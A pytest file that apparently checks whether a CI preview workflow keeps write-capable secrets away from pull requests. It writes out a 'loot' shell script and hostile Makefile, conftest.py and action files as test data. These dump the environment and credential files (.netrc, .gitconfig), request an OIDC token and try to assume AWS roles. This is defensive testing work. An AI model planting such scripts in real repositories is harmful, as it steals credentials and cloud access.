"""Keys that the files of a pull request can reach in the workflow `preview`: none that writes.

The job runs the pull request's files: the program, the Makefile, the action that sets slipway up,
and files that pytest loads. In this test each of them searches for keys. Environments hold the
secrets of the table in docs/continuous.md.
"""

import json
import re
from typing import Final

import pytest

from components.model.github_host import GITHUB_COM_ISSUER as ISSUER
from operations.terminal.output import PROJECT
from tests.repository.own_workflows import GITHUB
from tests.workflows.conftest import ACCOUNTS, Acme
from tests.workflows.environments import JobRefusedError
from tests.workflows.events import pull_request
from tests.workflows.outcome import Run

FORK: Final = "acme/platform"
DOCUMENTATION: Final = (PROJECT / "docs/continuous.md").read_text(encoding="utf-8")
ENVIRONMENTS: Final = ("slipway-preview", "slipway-drift", "slipway")
ACCOUNT: Final = ACCOUNTS["prod"]

#: Writes down everything that a step can reach, and tries the roles of all environments.
LOOT: Final = """\
mkdir -p "$SANDBOX_ARTIFACTS"
exec >> "$SANDBOX_ARTIFACTS/loot" 2>/dev/null
echo "looted by $1"
env
cat .git/config "$HOME"/.gitconfig "$HOME"/.netrc
find "$HOME" "$RUNNER_TEMP" . -type f -size -64k -not -path '*/site-packages/*' \\
  -not -path '*/.git/objects/*' -exec cat {} +
token=$(curl --silent --header "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" \\
  "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=sts.amazonaws.com&job=$GITHUB_JOB" |
  jq --raw-output .value)
for environment in slipway-preview slipway-drift slipway; do
  aws --region eu-west-1 sts assume-role-with-web-identity --role-session-name looter \\
    --role-arn "arn:aws:iam::ACCOUNT:role/for-$environment" --web-identity-token "$token" \\
    --query AssumedRoleUser.Arn --output text
done
true
"""
#: Every file of the pull request that the job runs, including its own `slipway` and `pulumi`.
HOSTILE: Final = {
    "loot.sh": LOOT.replace("ACCOUNT", ACCOUNT),
    "requirements.lock": "",
    "requirements.txt": "",
    "Makefile": ".venv/.installed:\n\t@sh loot.sh Makefile\n\t@sh tools.sh\n",
    "tools.sh": "mkdir -p .venv/bin\n"
    "printf '#!/bin/sh\\nsh loot.sh slipway\\necho [\\\"prod\\\"]\\n' > .venv/bin/slipway\n"
    "printf '#!/bin/sh\\npython __main__.py\\npython conftest.py\\n' > .venv/bin/pulumi\n"
    "chmod +x .venv/bin/slipway .venv/bin/pulumi\n",
    "__main__.py": "import os\nos.system('sh loot.sh __main__.py')\n",
    "conftest.py": "import os\nos.system('sh loot.sh conftest.py')\n",
    ".github/actions/set-up/action.yml": json.dumps(
        {
            "name": "set-up",
            "description": "Take what it is given",
            "inputs": {
                name: {"description": name}
                for name in ("client-id", "private-key", "owner", "access", "role", "region")
            },
            "runs": {
                "using": "composite",
                "steps": [
                    {
                        "shell": "bash",
                        "env": {"INPUTS": "${{ toJSON(inputs) }}"},
                        "run": 'sh loot.sh action; sh tools.sh; echo "$PWD/.venv/bin" '
                        '>> "$GITHUB_PATH"',
                    }
                ],
            },
        }
    ),
}


def documented_secrets() -> dict[str, tuple[str, ...]]:
    """Return the documentation's table: names of secrets, and the environments that hold them."""
    rows = re.findall(r"^ *\| `(\w+)` \| secret of ([^|]+) \|", DOCUMENTATION, re.MULTILINE)
    return {name: tuple(re.findall(r"`([\w-]+)`", where)) for name, where in rows}


def marker(name: str, environment: str) -> str:
    """Return a secret's value, on its own line."""
    return f"marker-of-{name}-in-{environment}"


def environment_seed(name: str, extra: tuple[str, ...]) -> dict[str, object]:
    """Return an environment as the documentation describes it."""
    held = [secret for secret, where in documented_secrets().items() if name in where]
    return {
        "name": name,
        "branches": [] if name == "slipway-preview" else ["main"],
        "variables": {"SLIPWAY_AWS_ROLE": f"arn:aws:iam::{ACCOUNT}:role/for-{name}"},
        "secrets": {secret: marker(secret, name) for secret in (*held, *extra)},
    }


def looted(acme: Acme, repository: str, *extra: str, text: str | None = None) -> tuple[Run, str]:
    """Run the preview of a pull request with hostile files, and return their findings.

    Args:
        acme: the organisation.
        repository: name of the fork to create.
        extra: further secrets of `slipway-preview`, against the documentation.
        text: of the workflow in the pull request; by default that of `main`.
    """
    workflow = (GITHUB / "workflows/preview.yml").read_text(encoding="utf-8")
    # A run has one environment at most here, and act has no variables of the repository.
    workflow = workflow.replace("vars.SLIPWAY_CLIENT_ID != '' && ", "")
    files = HOSTILE | {".github/workflows/preview.yml": text or workflow}
    seed = {
        "owner": "acme",
        "name": repository,
        "created_at": "2024-02-01T09:00:00Z",  # its subject has no ids
        "files": {"README.md": "x"},
        "branches": {"hostile": files},
        "environments": [
            environment_seed(name, extra if name == "slipway-preview" else ())
            for name in ENVIRONMENTS
        ],
    }
    acme.world.control("POST", "seed", {"repositories": [seed]})
    place = acme.runner.folder / "artifacts/loot"
    place.unlink(missing_ok=True)
    event = pull_request(acme.world, f"acme/{repository}", "hostile", ("__main__.py",))
    (run,) = acme.runner.happens(event).values()
    return run, place.read_text(encoding="utf-8", errors="replace")


@pytest.fixture(scope="module", autouse=True)
def _roles(acme: Acme) -> None:
    """Create a role for each environment, with the documented trust."""
    iam = acme.world.iam(ACCOUNT)
    provider = f"arn:aws:iam::{ACCOUNT}:oidc-provider/{ISSUER}"
    for name in ENVIRONMENTS:
        equal = {
            f"{ISSUER}:aud": "sts.amazonaws.com",
            f"{ISSUER}:sub": f"repo:{FORK}:environment:{name}",
        }
        statement = {
            "Effect": "Allow",
            "Principal": {"Federated": provider},
            "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": {"StringEquals": equal},
        }
        trust = {"Version": "2012-10-17", "Statement": [statement]}
        iam.create_role(RoleName=f"for-{name}", AssumeRolePolicyDocument=json.dumps(trust))


def test_no_environment_of_pull_requests_holds_a_key_that_writes() -> None:
    """No environment of pull requests holds a secret that writes or decrypts."""
    secrets = documented_secrets()
    assert set(secrets) == {
        "SLIPWAY_PRIVATE_KEY",
        "SLIPWAY_READER_PRIVATE_KEY",
        "PULUMI_CONFIG_PASSPHRASE",
        "PULUMI_ACCESS_TOKEN",
    }
    held = [name for name, where in secrets.items() if "slipway-preview" in where]
    assert held == ["SLIPWAY_READER_PRIVATE_KEY"]


def test_a_pull_requests_files_find_no_key_that_writes(acme: Acme) -> None:
    """Every file of the pull request that runs finds only the reader's key and role."""
    run, loot = looted(acme, "platform")
    assert (run.results["changed"], run.results["preview"]) == ("success", "success")
    for program in ("Makefile", "slipway", "action"):
        assert f"looted by {program}\n" in loot
    assert set(re.findall(r"marker-of-[\w-]+", loot)) == {
        marker("SLIPWAY_READER_PRIVATE_KEY", "slipway-preview")
    }
    assert set(re.findall(r"assumed-role/([\w-]+)/", loot)) == {"for-slipway-preview"}


def test_a_passphrase_would_be_found(acme: Acme) -> None:
    """A passphrase in that environment would be found, so the documentation requires reviewers."""
    _, loot = looted(acme, "careless", "PULUMI_CONFIG_PASSPHRASE")
    for program in ("__main__.py", "conftest.py"):
        assert f"looted by {program}\n" in loot
    assert marker("PULUMI_CONFIG_PASSPHRASE", "slipway-preview") in loot


@pytest.mark.parametrize("environment", ["slipway", "slipway-drift"])
def test_a_pull_request_enters_no_other_environment(acme: Acme, environment: str) -> None:
    """GitHub admits only `main` to the other environments, even if the workflow file is changed."""
    text = f"on: pull_request\njobs: {{a: {{environment: {environment}, steps: []}}}}\n"
    with pytest.raises(JobRefusedError, match="is not allowed to deploy"):
        looted(acme, f"sly-{environment}", text=text)
